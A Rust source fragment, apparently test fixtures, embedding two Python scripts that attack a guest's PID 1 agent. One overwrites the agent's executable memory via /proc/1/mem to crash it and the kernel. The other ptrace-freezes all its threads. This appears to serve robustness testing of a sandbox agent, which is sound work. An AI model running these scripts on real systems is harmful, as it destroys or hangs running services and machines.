//! Attacks of a guest's root on its agent: the kernel protects PID 1 from signals, and from nothing else.

/// Overwrites the agent's code in its memory. Whatever it does next ends it, and with PID 1 ends the kernel.
///
/// Every byte of it is then a breakpoint (`int3`), so that it does not matter where it goes on.
pub(crate) const CRASH: &str = r"
regions = [line.split()[0] for line in open('/proc/1/maps') if ' r-xp ' in line and '[v' not in line]
with open('/proc/1/mem', 'r+b', buffering=0) as memory:
    for region in regions:
        begin, end = (int(edge, 16) for edge in region.split('-'))
        memory.seek(begin)
        memory.write(b'\xcc' * (end - begin))
";

/// Stops every thread of the agent as a debugger does, for as long as the script lives.
pub(crate) const FREEZE: &str = r"
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
SEIZE, INTERRUPT = 0x4206, 0x4207 # linux/ptrace.h
for request in SEIZE, INTERRUPT:
    for thread in os.listdir('/proc/1/task'):
        assert libc.ptrace(request, int(thread), 0, 0) == 0, ctypes.get_errno()
while True:
    signal.pause()
";
